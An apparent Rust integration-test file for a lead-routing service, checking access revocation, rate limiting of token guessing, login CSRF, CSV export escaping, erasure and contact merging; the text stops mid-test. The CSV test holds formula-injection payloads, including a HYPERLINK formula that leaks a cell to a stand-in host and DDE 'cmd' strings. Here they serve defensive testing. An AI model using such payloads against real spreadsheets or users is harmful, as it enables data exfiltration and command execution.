//! The doors a hostile client or a careless operator would try (issue 9, SECURITY.md): revoked
//! reps, rotated tokens, guessing, login CSRF, admin endpoints, honeypots. Storage-backed
//! behaviour runs on both backends.

use std::net::IpAddr;

use reqwest::StatusCode;
use reqwest::header::{COOKIE, LOCATION};
use serde_json::{Value, json};

use crate::both;
use crate::dashboard::{Web, cookie_in, field_in};
use crate::support::{ADMIN, BASE_CONFIG, Db, TestApp, error_code};

const ANNA: &str = "anna-token-for-tests-0123456789";
const BEN: &str = "ben-token-for-tests-0123456789";

/// A client whose connections come from `ip` (any address of 127.0.0.0/8 is this machine).
fn client_from(ip: [u8; 4]) -> reqwest::Client {
    reqwest::Client::builder().local_address(IpAddr::from(ip)).build().expect("client")
}

async fn revoked_and_deactivated_reps_lose_access_at_once(db: Db) {
    let app = TestApp::spawn(db, "").await;
    for i in 0..4 {
        app.submit("contact", json!({"name": format!("P{i}"), "email": format!("p{i}@example.com")})).await;
    }
    let mut anna = Web::new(&app);
    assert_eq!(anna.login(ANNA).await.status, StatusCode::SEE_OTHER);
    assert_eq!(anna.get("/app").await.status, StatusCode::OK);
    let mut ben = Web::new(&app);
    assert_eq!(ben.login(BEN).await.status, StatusCode::SEE_OTHER);
    assert_eq!(app.get_as(ANNA, "/api/v1/leads").await.0, StatusCode::OK);

    // Made inactive through the API: the token and the session stop working with that answer.
    let (status, body) = app.patch("/api/v1/reps/anna", json!({"active": false})).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let (status, body) = app.get_as(ANNA, "/api/v1/leads").await;
    assert_eq!((status, error_code(&body)), (StatusCode::UNAUTHORIZED, "unauthorized"));
    let lead = app.leads("").await[0]["id"].as_str().expect("id").to_owned();
    let (status, _) = app
        .send_as(ANNA, reqwest::Method::POST, &format!("/api/v1/leads/{lead}/notes"), &json!({"text": "still here?"}))
        .await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
    let page = anna.get("/app").await;
    assert_eq!((page.status, page.location.as_deref()), (StatusCode::SEE_OTHER, Some("/app/login")));
    assert_eq!(anna.login(ANNA).await.status, StatusCode::UNAUTHORIZED, "nor can she sign in again");
    assert_eq!(app.count("SELECT COUNT(*) FROM sessions WHERE actor = 'rep:anna'").await, 0);
    assert_eq!(ben.get("/app").await.status, StatusCode::OK, "other reps are not affected");

    // Removed from the config: after the restart that applies it, the same.
    let cookie = ben.cookie.clone();
    let db_handle = app.stop_keep_db().await;
    let without_ben = BASE_CONFIG.replace(
        "[[reps]]\nid = \"ben\"\nname = \"Ben\"\napi_token = \"ben-token-for-tests-0123456789\"\nteams = [\"sales\"]\n",
        "",
    );
    assert!(!without_ben.contains("id = \"ben\""), "the config no longer has ben");
    let app = TestApp::spawn_on(db_handle, &without_ben).await;
    let (status, _) = app.get_as(BEN, "/api/v1/leads").await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
    let mut ben = Web::new(&app);
    ben.cookie = cookie;
    assert_eq!(ben.get("/app").await.status, StatusCode::SEE_OTHER);
    let reps = app.get("/api/v1/reps").await;
    let ben_row = reps["items"].as_array().expect("reps").iter().find(|r| r["id"] == "ben").cloned();
    assert_eq!(ben_row.map(|r| r["active"].clone()), Some(json!(false)), "kept for history, inactive");
    // Reactivated, the rep's own token works again (it was never rotated).
    let (status, _) = app.patch("/api/v1/reps/anna", json!({"active": true})).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(app.get_as(ANNA, "/api/v1/leads").await.0, StatusCode::OK);
}
both!(revoked_and_deactivated_reps_lose_access_at_once);

async fn sessions_end_when_their_token_is_rotated(db: Db) {
    let app = TestApp::spawn(db, "").await;
    let mut admin = Web::new(&app);
    assert_eq!(admin.login(ADMIN).await.status, StatusCode::SEE_OTHER);
    assert_eq!(admin.get("/app/analytics").await.status, StatusCode::OK);
    let mut anna = Web::new(&app);
    assert_eq!(anna.login(ANNA).await.status, StatusCode::SEE_OTHER);
    let (admin_cookie, anna_cookie) = (admin.cookie.clone(), anna.cookie.clone());

    let db_handle = app.stop_keep_db().await;
    let rotated =
        BASE_CONFIG.replace(ADMIN, "admin-token-rotated-9876543210").replace(ANNA, "anna-token-rotated-9876543210");
    let app = TestApp::spawn_on(db_handle, &rotated).await;
    let mut admin = Web::new(&app);
    admin.cookie = admin_cookie;
    let page = admin.get("/app/analytics").await;
    assert_eq!(
        (page.status, page.location.as_deref()),
        (StatusCode::SEE_OTHER, Some("/app/login?next=%2Fapp%2Fanalytics")),
        "a session made with the old admin token ends with it"
    );
    let mut anna = Web::new(&app);
    anna.cookie = anna_cookie;
    assert_eq!(anna.get("/app").await.status, StatusCode::SEE_OTHER, "and so does a rep's");
    assert_eq!(app.get_as(ADMIN, "/api/v1/leads").await.0, StatusCode::UNAUTHORIZED);
    assert_eq!(app.get_as("admin-token-rotated-9876543210", "/api/v1/leads").await.0, StatusCode::OK);
    assert_eq!(admin.login("admin-token-rotated-9876543210").await.status, StatusCode::SEE_OTHER);
    assert_eq!(admin.get("/app/analytics").await.status, StatusCode::OK, "the new token signs in");
    assert_eq!(app.count("SELECT COUNT(*) FROM sessions").await, 1, "ended sessions are removed");
}
both!(sessions_end_when_their_token_is_rotated);

#[tokio::test]
async fn guessing_tokens_is_answered_429_per_client() {
    let app = TestApp::spawn(Db::Sqlite, "[auth]\nfailure_limit = 10\nfailure_window = \"1m\"\n").await;
    let guesser = client_from([127, 0, 0, 7]);
    let mut statuses = Vec::new();
    for i in 0..300 {
        let r = guesser
            .get(app.url("/api/v1/leads"))
            .bearer_auth(format!("guess-{i:04}-aaaaaaaaaaaaaaaaaaaa"))
            .send()
            .await
            .expect("request");
        statuses.push(r.status());
        if r.status() == StatusCode::TOO_MANY_REQUESTS {
            assert!(r.headers().contains_key("retry-after"));
        }
    }
    let unauthorized = statuses.iter().filter(|s| **s == StatusCode::UNAUTHORIZED).count();
    let limited = statuses.iter().filter(|s| **s == StatusCode::TOO_MANY_REQUESTS).count();
    assert_eq!((unauthorized, limited), (10, 290), "ten tries, then the client waits");
    // While limited even the right token is not checked: guessing cannot tell a hit.
    let r = guesser.get(app.url("/api/v1/leads")).bearer_auth(ADMIN).send().await.expect("request");
    assert_eq!(r.status(), StatusCode::TOO_MANY_REQUESTS);
    // The sign-in form counts against the same budget.
    let page = guesser.get(app.url("/app/login")).send().await.expect("form");
    let nonce = page.headers().get("set-cookie").and_then(|v| v.to_str().ok()).and_then(|c| cookie_in(c, "lr_login"));
    let csrf = field_in(&page.text().await.expect("body"), "login_csrf");
    let r = guesser
        .post(app.url("/app/login"))
        .header(COOKIE, format!("lr_login={}", nonce.expect("cookie")))
        .form(&[("token", ADMIN), ("login_csrf", &csrf)])
        .send()
        .await
        .expect("post");
    assert_eq!(r.status(), StatusCode::TOO_MANY_REQUESTS);
    // Everyone else is unaffected.
    let other = client_from([127, 0, 0, 8]);
    let r = other.get(app.url("/api/v1/leads")).bearer_auth(ADMIN).send().await.expect("request");
    assert_eq!(r.status(), StatusCode::OK);
}

async fn login_posts_from_other_sites_are_refused(db: Db) {
    let app = TestApp::spawn(db, "").await;
    let http = reqwest::Client::builder().redirect(reqwest::redirect::Policy::none()).build().expect("client");
    // Without our form's token (a page elsewhere posting a token of the attacker's choosing).
    let r = http.post(app.url("/app/login")).form(&[("token", ADMIN)]).send().await.expect("post");
    assert_eq!(r.status(), StatusCode::FORBIDDEN);
    // With the token but from another origin.
    let form = http.get(app.url("/app/login")).send().await.expect("form");
    let nonce = form.headers().get("set-cookie").and_then(|v| v.to_str().ok()).and_then(|c| cookie_in(c, "lr_login"));
    let nonce = nonce.expect("lr_login cookie");
    let csrf = field_in(&form.text().await.expect("body"), "login_csrf");
    let post = |origin: String| {
        http.post(app.url("/app/login"))
            .header(COOKIE, format!("lr_login={nonce}"))
            .header("origin", origin)
            .form(&[("token", ADMIN), ("login_csrf", csrf.as_str())])
            .send()
    };
    let r = post("http://127.0.0.9:8080".into()).await.expect("post");
    assert_eq!(r.status(), StatusCode::FORBIDDEN);
    assert_eq!(app.count("SELECT COUNT(*) FROM sessions").await, 0, "no session was made");
    // Our own origin, as a browser sends it, signs in.
    let r = post(app.addr.clone()).await.expect("post");
    assert_eq!(
        (r.status(), r.headers().get(LOCATION).map(|v| v.as_bytes())),
        (StatusCode::SEE_OTHER, Some(&b"/app"[..]))
    );
    assert_eq!(app.count("SELECT COUNT(*) FROM sessions").await, 1);
}
both!(login_posts_from_other_sites_are_refused);

#[tokio::test]
async fn admin_endpoints_refuse_reps_before_reading_the_body() {
    let app = TestApp::spawn(Db::Sqlite, "").await;
    let lead = app.submit("contact", json!({"name": "Ada", "email": "ada@example.com"})).await;
    let contact = app.lead(&lead).await["contact"]["id"].as_str().expect("contact").to_owned();
    for (method, path, body) in [
        (reqwest::Method::POST, format!("/api/v1/contacts/{contact}/merge"), json!({"not": "the schema"})),
        (reqwest::Method::POST, "/api/v1/reps".to_owned(), json!({"nonsense": true})),
        (reqwest::Method::PATCH, "/api/v1/reps/anna".to_owned(), json!({"capacity": "many"})),
        (reqwest::Method::POST, "/api/v1/leads".to_owned(), json!([])),
    ] {
        let (status, body) = app.send_as(ANNA, method, &path, &body).await;
        assert_eq!((status, error_code(&body)), (StatusCode::FORBIDDEN, "forbidden"), "{path}: {body}");
        assert!(!body.to_string().contains("other_id"), "no schema leaks: {body}");
    }
}

async fn a_caught_bot_gets_the_answer_a_person_gets(db: Db) {
    let app = TestApp::spawn(
        db,
        "[[forms]]\nid = \"trap\"\nhoneypot = \"website\"\nredirect_to = \"http://127.0.0.1:9/thanks\"\n",
    )
    .await;
    let http = reqwest::Client::builder().redirect(reqwest::redirect::Policy::none()).build().expect("client");
    let post = |body: Value| http.post(app.url("/api/v1/forms/trap")).json(&body).send();
    let person = post(json!({"email": "person@example.com"})).await.expect("post");
    let bot = post(json!({"email": "bot@example.com", "website": "http://127.0.0.1:9/spam"})).await.expect("post");
    assert_eq!((person.status(), bot.status()), (StatusCode::ACCEPTED, StatusCode::ACCEPTED));
    let location = |r: &reqwest::Response| r.headers().get(LOCATION).and_then(|v| v.to_str().ok()).map(str::to_owned);
    let (person_at, bot_at) = (location(&person), location(&bot));
    assert!(bot_at.as_deref().is_some_and(|l| l.starts_with("/api/v1/leads/")), "{bot_at:?}");
    assert_eq!(person_at.map(|l| l.len()), bot_at.map(|l| l.len()), "the same shape of Location");
    let (p, b): (Value, Value) = (person.json().await.expect("json"), bot.json().await.expect("json"));
    assert_eq!(p.as_object().map(|o| o.keys().collect::<Vec<_>>()), b.as_object().map(|o| o.keys().collect()));
    // A browser's post goes to the thank-you page either way.
    let browser = |body: &'static str| {
        http.post(app.url("/api/v1/forms/trap"))
            .header("accept", "text/html")
            .header("content-type", "application/x-www-form-urlencoded")
            .body(body)
            .send()
    };
    let person = browser("email=p2%40example.com").await.expect("post");
    let bot = browser("email=b2%40example.com&website=x").await.expect("post");
    assert_eq!((person.status(), bot.status()), (StatusCode::SEE_OTHER, StatusCode::SEE_OTHER));
    assert_eq!(location(&bot).as_deref(), Some("http://127.0.0.1:9/thanks"));
    assert_eq!(app.count("SELECT COUNT(*) FROM leads").await, 2, "only the people's posts are leads");
}
both!(a_caught_bot_gets_the_answer_a_person_gets);

async fn exported_cells_never_run_as_formulas(db: Db) {
    let app = TestApp::spawn(db, "").await;
    let attacks = [
        r#"=HYPERLINK("http://127.0.0.1:9/?x="&A1,"click")"#,
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|x",
        "@SUM(1+1)*cmd|x",
        "\t=1+1",
    ];
    for (i, attack) in attacks.iter().enumerate() {
        app.submit("contact", json!({"email": format!("csv{i}@example.com"), "utm_source": attack})).await;
    }
    let r = app.client.get(app.url("/api/v1/stats/leads.csv")).bearer_auth(ADMIN).send().await.expect("csv");
    assert_eq!(r.status(), StatusCode::OK);
    let text = r.text().await.expect("body");
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let column = reader.headers().expect("header").iter().position(|h| h == "utm_source").expect("utm_source column");
    let cells: Vec<String> = reader.records().map(|r| r.expect("row")[column].to_owned()).collect();
    assert_eq!(cells.len(), attacks.len());
    for cell in &cells {
        assert!(cell.starts_with('\''), "{cell:?} would be evaluated by a spreadsheet");
        assert!(!cell[1..].starts_with('\''), "quoted once: {cell:?}");
    }
    assert!(cells.iter().any(|c| c == "'=1+1"), "a leading tab trimmed away still leaves an inert cell: {cells:?}");
}
both!(exported_cells_never_run_as_formulas);

async fn nul_characters_behave_the_same_on_both_backends(db: Db) {
    let app = TestApp::spawn(db, "").await;
    // From a form (a channel): dropped, and the lead is stored.
    let r = app
        .post_form("contact", &json!({"name": "nul\u{0}byte", "email": "nul@example.com", "message": "a\u{0}b"}))
        .await;
    assert_eq!(r.status(), StatusCode::ACCEPTED);
    let body: Value = r.json().await.expect("json");
    let id = body["id"].as_str().expect("a 202 names a stored lead").to_owned();
    let lead = app.lead(&id).await;
    assert_eq!(lead["contact"]["name"], "nulbyte");
    assert_eq!(lead["interactions"][0]["text"], "ab");
    assert_eq!(app.count("SELECT COUNT(*) FROM inbound_items WHERE status = 'failed'").await, 0);
    // In a URL: 400, on every kind of parameter, never a 500.
    for path in [
        "/api/v1/leads?q=%00".to_owned(),
        "/api/v1/leads?cursor=a%00b".to_owned(),
        "/api/v1/leads/ab%00cd".to_owned(),
        "/api/v1/contacts?q=x%00".to_owned(),
        format!("/api/v1/leads/{id}?x=%00"),
    ] {
        let (status, body) = app.get_as(ADMIN, &path).await;
        assert_eq!((status, error_code(&body)), (StatusCode::BAD_REQUEST, "nul_character"), "{path}");
    }
    // In an API body: 400, and nothing changes.
    let (status, body) = app
        .send_as(ADMIN, reqwest::Method::POST, &format!("/api/v1/leads/{id}/notes"), &json!({"text": "x\u{0}y"}))
        .await;
    assert_eq!((status, error_code(&body)), (StatusCode::BAD_REQUEST, "nul_character"));
    assert_eq!(app.lead(&id).await["interactions"].as_array().map(Vec::len), Some(1));
    // A literal backslash-u is just text.
    let (status, _) = app
        .send_as(ADMIN, reqwest::Method::POST, &format!("/api/v1/leads/{id}/notes"), &json!({"text": r"\u0000"}))
        .await;
    assert_eq!(status, StatusCode::CREATED);
}
both!(nul_characters_behave_the_same_on_both_backends);

async fn search_wildcards_are_literal(db: Db) {
    let app = TestApp::spawn(db, "").await;
    app.submit("contact", json!({"name": "Ada Lovelace", "email": "ada@example.com"})).await;
    app.submit("contact", json!({"name": "100% Growth Ltd", "email": "growth@example.com"})).await;
    app.submit("contact", json!({"name": "snake_case", "email": "snake@example.com"})).await;
    let names = |items: Vec<Value>| {
        items.iter().map(|l| l["contact"]["name"].as_str().unwrap_or("").to_owned()).collect::<Vec<_>>()
    };
    assert_eq!(names(app.leads("&q=%25").await), ["100% Growth Ltd"]);
    assert_eq!(names(app.leads("&q=_").await), ["snake_case"]);
    assert_eq!(names(app.leads("&q=ada").await), ["Ada Lovelace"]);
    let contacts = app.get("/api/v1/contacts?q=%25").await;
    assert_eq!(contacts["items"].as_array().map(Vec::len), Some(1));
}
both!(search_wildcards_are_literal);

const BIN: &str = env!("CARGO_BIN_EXE_leadrouter");

fn scratch_dir() -> std::path::PathBuf {
    let dir = std::env::temp_dir().join(format!("leadrouter-sec-{}", leadrouter::base::new_id()));
    std::fs::create_dir_all(&dir).expect("dir");
    dir
}

#[test]
fn check_config_lists_every_problem_in_the_files_own_key_names() {
    let dir = scratch_dir();
    let bad = dir.join("bad.toml");
    std::fs::write(
        &bad,
        r#"
        colour = "blue"
        [server]
        request_timeout = "-5m"
        [auth]
        admin_tokens = ["change-me-to-a-long-random-string", "short"]
        [[reps]]
        id = "anna"
        name = "Anna"
        capacity = -3
        teams = ["sales"]
        [[teams]]
        id = "sales"
        sla = "soon"
        [[forms]]
        id = "contact/us"
        "#,
    )
    .expect("write");
    let out = std::process::Command::new(BIN)
        .args(["--config", bad.to_str().expect("path"), "check-config"])
        .env("LEADROUTER__OUTBOX__MAX_ATTEMPTS", "many")
        .output()
        .expect("run");
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(!out.status.success());
    for needle in [
        "unknown key `colour`",
        "server.request_timeout: `-5m` is not a duration",
        "reps[0].capacity: expected u32, found signed int `-3`",
        "teams[0].sla: `soon` is not a duration",
        "outbox.max_attempts: expected u32, found string \"many\" (from the LEADROUTER__ environment)",
        "auth.admin_tokens[0] is a placeholder",
        "auth.admin_tokens[1] has 5 characters",
        "form `contact/us`: an id is 1–64 letters",
        "8 problem(s)",
    ] {
        assert!(stdout.contains(needle), "{needle:?} missing from:\n{stdout}");
    }
    assert!(!stdout.contains("default."), "no profile prefix:\n{stdout}");
    // serve refuses the same file, with the same list.
    let out =
        std::process::Command::new(BIN).args(["--config", bad.to_str().expect("path"), "serve"]).output().expect("run");
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("teams[0].sla"));
    let _ = std::fs::remove_dir_all(dir);
}

#[test]
fn weak_tokens_are_refused_unless_a_trial_allows_them() {
    let dir = scratch_dir();
    let config = dir.join("weak.toml");
    let db = format!("sqlite://{}/weak.db", dir.display());
    std::fs::write(&config, "[auth]\nadmin_tokens = [\"a\"]\n").expect("write");
    let run = |extra: &[(&str, &str)]| {
        let mut c = std::process::Command::new(BIN);
        c.args(["--config", config.to_str().expect("path"), "check-config"]).env("LEADROUTER__DATABASE__URL", &db);
        for (k, v) in extra {
            c.env(k, v);
        }
        c.output().expect("run")
    };
    let out = run(&[]);
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stdout).contains("auth.admin_tokens[0] has 1 characters"));
    let out = run(&[("LEADROUTER__AUTH__ALLOW_WEAK_TOKENS", "true")]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stdout));
    let _ = std::fs::remove_dir_all(dir);
}

#[test]
fn start_up_names_the_real_reason_the_database_is_not_there() {
    let dir = scratch_dir();
    let not_a_db = dir.join("notes.txt");
    std::fs::write(&not_a_db, "these are not the rows you are looking for\n".repeat(200)).expect("write");
    let real = dir.join("real.db");
    let out = std::process::Command::new(BIN)
        .arg("migrate")
        .env("LEADROUTER__DATABASE__URL", format!("sqlite://{}", real.display()))
        .output()
        .expect("run");
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    for (url, reason) in [
        ("postgres://postgres@127.0.0.1:1/leadrouter".to_owned(), "Connection refused"),
        (format!("sqlite://{}", not_a_db.display()), "file is not a database"),
        (format!("sqlite://{}?mode=ro", real.display()), "readonly database"),
    ] {
        let started = std::time::Instant::now();
        let out = std::process::Command::new(BIN)
            .arg("serve")
            .env("LEADROUTER__DATABASE__URL", &url)
            .env("LEADROUTER__SERVER__LISTEN", "127.0.0.1:0")
            .output()
            .expect("run");
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(!out.status.success());
        assert!(stderr.contains(reason), "{url}: {stderr}");
        assert!(!stderr.contains("concurrent update"), "{stderr}");
        assert!(started.elapsed() < std::time::Duration::from_secs(5), "{url}: said after {:?}", started.elapsed());
    }
    let _ = std::fs::remove_dir_all(dir);
}

async fn a_reused_idempotency_key_with_another_body_is_refused(db: Db) {
    let app = TestApp::spawn(db, "").await;
    let post = |key: &'static str, body: Value| {
        app.client.post(app.url("/api/v1/forms/contact")).header("idempotency-key", key).json(&body).send()
    };
    let first = json!({"name": "Ada", "email": "ada@example.com"});
    let r = post("order-1", first.clone()).await.expect("post");
    assert_eq!(r.status(), StatusCode::ACCEPTED);
    let again = post("order-1", first).await.expect("post");
    let body: Value = again.json().await.expect("json");
    assert_eq!(body["duplicate"], true, "a retry is a duplicate");
    let other = post("order-1", json!({"name": "Bob", "email": "bob@example.com"})).await.expect("post");
    assert_eq!(other.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let body: Value = other.json().await.expect("json");
    assert_eq!(error_code(&body), "idempotency_key_reused");
    assert_eq!(app.count("SELECT COUNT(*) FROM contacts").await, 1, "the second person was not taken for the first");
    // The API's own key, the same way.
    let lead = |name: &str| json!({"name": name, "email": format!("{}@example.com", name.to_lowercase()), "external_id": "crm-7"});
    assert_eq!(app.send_as(ADMIN, reqwest::Method::POST, "/api/v1/leads", &lead("Cleo")).await.0, StatusCode::CREATED);
    assert_eq!(app.send_as(ADMIN, reqwest::Method::POST, "/api/v1/leads", &lead("Cleo")).await.0, StatusCode::OK);
    let (status, body) = app.send_as(ADMIN, reqwest::Method::POST, "/api/v1/leads", &lead("Dora")).await;
    assert_eq!((status, error_code(&body)), (StatusCode::UNPROCESSABLE_ENTITY, "idempotency_key_reused"));
    assert_eq!(app.count("SELECT COUNT(*) FROM contacts").await, 2);
}
both!(a_reused_idempotency_key_with_another_body_is_refused);

async fn raw_bodies_are_kept_bounded(db: Db) {
    let config =
        BASE_CONFIG.to_owned() + "\n[inbound]\nraw_retention = \"2s\"\n[scheduler]\nunassigned_interval = \"200ms\"\n";
    let app = TestApp::spawn_with(db, &config).await;
    let padding = "x".repeat(900 * 1024);
    for i in 0..40 {
        let r = app
            .post_form(
                "contact",
                &json!({"email": "big@example.com", "message": format!("note {i}"), "padding": padding}),
            )
            .await;
        assert_eq!(r.status(), StatusCode::ACCEPTED);
    }
    let kept = app.count("SELECT CAST(SUM(length(payload)) AS BIGINT) FROM inbound_items").await;
    let received = app.count("SELECT CAST(SUM(payload_size) AS BIGINT) FROM inbound_items").await;
    assert!(kept <= 40 * leadrouter::store::RAW_EXCERPT_BYTES as i64, "{kept} bytes of raw bodies kept");
    assert!(received > 40 * 900 * 1024, "their sizes are recorded: {received}");
    assert_eq!(app.count("SELECT COUNT(*) FROM inbound_items WHERE payload_sha256 IS NULL").await, 0);
    // After the retention period only the size and hash stay.
    crate::support::eventually(10, || async {
        app.count("SELECT COUNT(*) FROM inbound_items WHERE length(payload) > 0").await == 0
    })
    .await;
    assert_eq!(app.count("SELECT COUNT(*) FROM inbound_items WHERE payload_size IS NULL").await, 0);
    let lead = app.leads("").await;
    assert_eq!(lead.len(), 1, "forty posts of one person, one lead");
}
both!(raw_bodies_are_kept_bounded);

/// Every place in the database a string is found: SQLite files byte by byte, PostgreSQL rows
/// of every table as text (bytea as hex, too).
async fn found_in_database(app: &TestApp, db: Db, needles: &[&str]) -> Vec<String> {
    let mut found = Vec::new();
    match db {
        Db::Sqlite => {
            let url = app.intake.core.settings.database.url.clone();
            let path = url.trim_start_matches("sqlite://").split('?').next().expect("path").to_owned();
            for file in [path.clone(), format!("{path}-wal"), format!("{path}-shm")] {
                let Ok(bytes) = std::fs::read(&file) else { continue };
                for needle in needles {
                    if bytes.windows(needle.len()).any(|w| w == needle.as_bytes()) {
                        found.push(format!("{needle:?} in {file}"));
                    }
                }
            }
        }
        Db::Postgres => {
            let pool = app.store().reader_pool();
            let tables: Vec<String> = sqlx::query_scalar(
                "SELECT table_name::text FROM information_schema.tables WHERE table_schema = 'public' AND table_type = 'BASE TABLE'",
            )
            .fetch_all(&pool)
            .await
            .expect("tables");
            for table in tables {
                let rows: Vec<String> =
                    sqlx::query_scalar(sqlx::AssertSqlSafe(format!("SELECT t::text FROM {table} t")))
                        .fetch_all(&pool)
                        .await
                        .expect("rows");
                for row in rows {
                    for needle in needles {
                        let hex = hex::encode(needle.as_bytes());
                        if row.contains(needle) || row.contains(&hex) {
                            found.push(format!("{needle:?} in {table}: {}", &row[..row.len().min(160)]));
                        }
                    }
                }
            }
        }
    }
    found
}

async fn an_erased_person_is_found_nowhere_in_the_database(db: Db) {
    let (hook, received) = crate::webhooks::receiver(StatusCode::OK).await;
    let app = TestApp::spawn(db, &format!("[[notify.webhooks]]\nurl = \"{hook}\"\n")).await;
    let (email, phone, name) = ("zelda.quartermain@example.com", "+14155550173", "Zelda Quartermain");
    let lead = app
        .submit("contact", json!({"name": name, "email": email, "phone": "(415) 555-0173", "message": "Quote for the Quartermain estate"}))
        .await;
    app.submit("contact", json!({"email": email, "message": "Zelda again: any news?"})).await;
    // A second record of her, merged in by an admin.
    let other = app.submit("contact", json!({"name": "Z. Quartermain", "email": "zq@example.com"})).await;
    let contact = app.lead(&lead).await["contact"]["id"].as_str().expect("contact").to_owned();
    let other_contact = app.lead(&other).await["contact"]["id"].as_str().expect("contact").to_owned();
    let (status, body) = app
        .send_as(
            ADMIN,
            reqwest::Method::POST,
            &format!("/api/v1/contacts/{contact}/merge"),
            &json!({"other_id": other_contact}),
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let (status, _) = app
        .patch(&format!("/api/v1/leads/{lead}"), json!({"status": "qualification", "next_action_at": "2030-01-01T10:00:00Z", "next_action_note": "call Zelda Quartermain back"}))
        .await;
    assert_eq!(status, StatusCode::OK);
    let path = format!("/api/v1/leads/{lead}/tasks");
    assert_eq!(
        app.send_as(ADMIN, reqwest::Method::POST, &path, &json!({"title": "send Zelda Quartermain the quote"})).await.0,
        StatusCode::CREATED
    );
    crate::support::eventually(10, || async { received.0.lock().expect("lock").len() >= 3 }).await;

    let needles = [email, phone, name, "Quartermain", "zq@example.com"];
    assert!(!found_in_database(&app, db, &needles).await.is_empty(), "the test must see her before the erasure");
    let (status, _) =
        app.send_as(ADMIN, reqwest::Method::DELETE, &format!("/api/v1/contacts/{contact}"), &json!({})).await;
    assert_eq!(status, StatusCode::NO_CONTENT);
    let left = found_in_database(&app, db, &needles).await;
    assert!(left.is_empty(), "still there after the erasure:\n{}", left.join("\n"));
    // The numbers stay: the leads are there, without her.
    let erased = app.lead(&lead).await;
    assert!(erased["contact"]["name"].is_null() && erased["next_action_note"].is_null());
    assert_eq!(app.count("SELECT COUNT(*) FROM leads").await, 2);
}
both!(an_erased_person_is_found_nowhere_in_the_database);

async fn an_anonymous_post_cannot_merge_two_owned_contacts(db: Db) {
    let app = TestApp::spawn(db, "").await;
    let chen = "chen-token-for-tests-0123456789";
    let lead_a =
        app.submit("contact", json!({"name": "Alice", "email": "alice@example.com", "message": "from A"})).await;
    let lead_b = app.submit("contact", json!({"name": "Bob", "phone": "+14155550199", "message": "from B"})).await;
    let (a, b) = (app.lead(&lead_a).await, app.lead(&lead_b).await);
    assert_eq!((a["owner"]["id"].as_str(), b["owner"]["id"].as_str()), (Some("anna"), Some("ben")));
    let (contact_a, contact_b) =
        (a["contact"]["id"].as_str().expect("a").to_owned(), b["contact"]["id"].as_str().expect("b").to_owned());

    // Someone posts A's email with B's phone.
    let joined = app
        .submit("contact", json!({"email": "alice@example.com", "phone": "+1 415 555 0199", "message": "merge us"}))
        .await;
    assert_eq!(joined, lead_a);
    let b_now = app.lead(&lead_b).await;
    assert_eq!(
        (b_now["status"].as_str(), b_now["closed_at"].is_null()),
        (Some("new"), true),
        "B's lead stays open: {b_now}"
    );
    assert!(b_now["merged_into"].is_null());
    assert_eq!(b_now["contact"]["identities"][0]["value"], "+14155550199", "B's phone stays B's");
    assert_eq!(app.count("SELECT COUNT(*) FROM contacts WHERE merged_into IS NULL").await, 2);

    // The review is the owners' and the admins' to see.
    let pending = app.get("/api/v1/merge-reviews").await["items"].as_array().cloned().unwrap_or_default();
    assert_eq!(pending.len(), 1);
    assert_eq!(
        (pending[0]["contact_id"].as_str(), pending[0]["other_contact_id"].as_str()),
        (Some(contact_a.as_str()), Some(contact_b.as_str()))
    );
    let review = pending[0]["id"].as_str().expect("id").to_owned();
    assert_eq!(app.get_as(ANNA, "/api/v1/merge-reviews").await.1["items"].as_array().map(Vec::len), Some(1));
    assert_eq!(app.get_as(chen, "/api/v1/merge-reviews").await.1["items"].as_array().map(Vec::len), Some(0));
    let confirm = format!("/api/v1/merge-reviews/{review}/confirm");
    assert_eq!(app.send_as(chen, reqwest::Method::POST, &confirm, &json!({})).await.0, StatusCode::NOT_FOUND);

    // Both owners confirm: then they are one person, B's lead folded into A's as merged.
    let (status, body) = app.send_as(ANNA, reqwest::Method::POST, &confirm, &json!({})).await;
    assert_eq!(
        (status, body["status"].as_str(), body["waiting_for"].clone()),
        (StatusCode::OK, Some("waiting"), json!(["ben"]))
    );
    assert_eq!(app.count("SELECT COUNT(*) FROM contacts WHERE merged_into IS NULL").await, 2, "not yet");
    let (status, body) = app.send_as(BEN, reqwest::Method::POST, &confirm, &json!({})).await;
    assert_eq!((status, body["status"].as_str()), (StatusCode::OK, Some("merged")), "{body}");
    let folded = app.lead(&lead_b).await;
    assert_eq!(folded["merged_into"], lead_a.as_str());
    assert_eq!(folded["status"], "new", "folded, not lost");
    assert!(folded["lost_reason"].is_null());
    let texts = |lead: &Value| {
        lead["interactions"]
            .as_array()
            .expect("timeline")
            .iter()
            .filter_map(|i| i["text"].as_str().map(str::to_owned))
            .collect::<Vec<_>>()
    };
    assert_eq!(texts(&app.lead(&lead_a).await), ["from A", "from B", "merge us"]);
    assert!(app.leads("").await.iter().all(|l| l["id"] != lead_b.as_str()), "a folded lead is not listed on its own");
    let (status, body) = app.patch(&format!("/api/v1/leads/{lead_b}"), json!({"status": "won"})).await;
    assert_eq!((status, error_code(&body)), (StatusCode::CONFLICT, "conflict"));
    assert_eq!(app.send_as(ANNA, reqwest::Method::POST, &confirm, &json!({})).await.0, StatusCode::CONFLICT, "decided");

    // An admin undoes it: B stands alone again, with its lead, owner, phone and messages.
    let detail = app.get(&format!("/api/v1/contacts/{contact_a}")).await;
    let merge = detail["merges"][0]["id"].as_str().expect("the merge is on record").to_owned();
    assert_eq!(detail["merges"][0]["reason"], "review");
    let undo = format!("/api/v1/merges/{merge}/undo");
    assert_eq!(app.send_as(ANNA, reqwest::Method::POST, &undo, &json!({})).await.0, StatusCode::FORBIDDEN);
    let (status, body) = app.send_as(ADMIN, reqwest::Method::POST, &undo, &json!({})).await;
    assert_eq!((status, body["reopened"].clone()), (StatusCode::OK, json!([lead_b])), "{body}");
    let b_again = app.lead(&lead_b).await;
